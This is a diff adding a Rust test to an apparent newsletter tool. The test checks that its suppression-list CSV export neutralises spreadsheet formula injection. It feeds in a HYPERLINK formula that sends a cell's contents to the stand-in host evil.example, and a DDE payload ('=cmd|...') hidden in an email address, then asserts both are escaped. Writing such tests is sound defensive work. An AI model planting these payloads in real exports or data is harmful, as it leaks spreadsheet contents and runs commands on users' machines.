@@ -584,3 +584,47 @@ Uw bericht kon niet worden bezorgd bij de volgende ontvanger:
 lisa@example.nl
     Het postvak van de ontvanger is vol. Probeer het later opnieuw.
 ";
+
+/// Issue 17, item 5: staff open the export in Excel, and a forged bounce carrying a reader's
+/// VERP token chooses the diagnostic text; an address may start with `=` too. No cell may
+/// start as a formula, and importing the export gives back the same addresses.
+#[test]
+fn the_suppression_export_opens_in_a_spreadsheet_without_formulas() {
+    let dir = seed_with_bounces();
+    let d = dir.path();
+    let senders = send_with_bounces(d, 2);
+    let formula = "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Klik hier\")";
+    let dsn = postfix_dsn(
+        &senders["r1@example.org"],
+        "r1@example.org",
+        "<x@y>",
+        formula,
+        "5.1.1",
+    );
+    dir.write("dsn.eml", dsn);
+    assert_eq!(read(d, &["dsn.eml"]).code, 0);
+    let address = "=cmd|'/Ccalc'!A0@example.nl";
+    assert_eq!(courant(d, &["unsubscribe", address]).code, 0);
+    let address = address.to_lowercase(); // as the ledger keeps it
+
+    let export = courant(d, &["suppressions", "export"]);
+    assert_eq!(export.code, 0, "{}", export.stderr);
+    let mut reader = csv::Reader::from_reader(export.stdout.as_bytes());
+    let cells: Vec<String> = reader
+        .records()
+        .flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
+        .collect();
+    assert!(cells.contains(&format!("'{address}")), "{cells:?}");
+    assert!(cells.contains(&format!("'{formula}")), "{cells:?}");
+    let formulas: Vec<_> = cells
+        .iter()
+        .filter(|c| c.starts_with(['=', '+', '-', '@']))
+        .collect();
+    assert!(formulas.is_empty(), "{formulas:?}");
+
+    let elsewhere = Test::seed().file("export.csv", &export.stdout);
+    let import = elsewhere.words("suppressions import export.csv");
+    assert_eq!(import.code, 0, "{}", import.stderr);
+    let again = elsewhere.words("suppressions export");
+    assert!(contains(&again.stdout, &format!("\n'{address},")));
+}
